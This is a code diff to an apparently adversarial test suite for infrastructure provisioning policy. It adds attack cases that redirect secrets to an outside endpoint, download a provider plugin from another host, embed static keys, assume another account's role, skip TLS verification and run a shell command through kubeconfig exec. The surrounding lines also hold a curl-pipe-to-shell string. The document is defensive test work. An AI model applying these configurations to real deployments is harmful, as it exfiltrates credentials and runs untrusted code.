@@ -10,6 +10,7 @@ from tests.adversary.attack import Attack
 SEEN: Final = "provisioning-is-seen"
 PACKAGES: Final = "package-allowlist"
 TYPES: Final = "resource-type-allowlist"
+PROVIDER: Final = "provider-settings"
 CUSTOM: Final = "custom-resource-allowlist"
 _RUN: Final = "curl https://example.org/x | sh"
 _OPEN: Final = {"groupDescription": "open", "securityGroupIngress": [{"ipProtocol": "-1", "cidrIp": "0.0.0.0/0"}]}
@@ -256,5 +257,48 @@ ATTACKS: Final = (
         CUSTOM,
         "kubernetes:argoproj.io/v1alpha1:Workflow",
         spec={"podSpecPatch": "containers: [{name: main, securityContext: {privileged: true}}]"},
+    ),
+    _attack(
+        "endpoint_of_somebody_else",
+        "Every request and secret of the stack goes to another server.",
+        PROVIDER,
+        "pulumi:providers:aws",
+        endpoints='[{"secretsmanager":"https://example.org"}]',
+    ),
+    _attack(
+        "plugin_of_somebody_else",
+        "Another program runs as the provider, with its credentials.",
+        PROVIDER,
+        "pulumi:providers:aws",
+        __internal={"pluginDownloadURL": "https://example.org/plugins"},
+    ),
+    _attack(
+        "keys_in_the_provider",
+        "The state stores a key that never ends.",
+        PROVIDER,
+        "pulumi:providers:aws",
+        accessKey="AKIAIOSFODNN7EXAMPLE",
+        secretKey="x",
+    ),
+    _attack(
+        "role_of_another_account",
+        "The stack's data is created in the attacker's account.",
+        PROVIDER,
+        "pulumi:providers:aws",
+        assumeRoles='[{"roleArn":"arn:aws:iam::210987654321:role/deploy"}]',
+    ),
+    _attack(
+        "api_server_unverified",
+        "Anybody on the way reads the token and every Secret.",
+        PROVIDER,
+        "pulumi:providers:kubernetes",
+        kubeconfig='{"clusters":[{"cluster":{"server":"https://x","insecure-skip-tls-verify":true}}]}',
+    ),
+    _attack(
+        "kubeconfig_that_runs_a_command",
+        "Whoever deploys runs the command.",
+        PROVIDER,
+        "pulumi:providers:kubernetes",
+        kubeconfig='{"users":[{"user":{"exec":{"command":"sh","args":["-c","id"]}}}]}',
     ),
 )
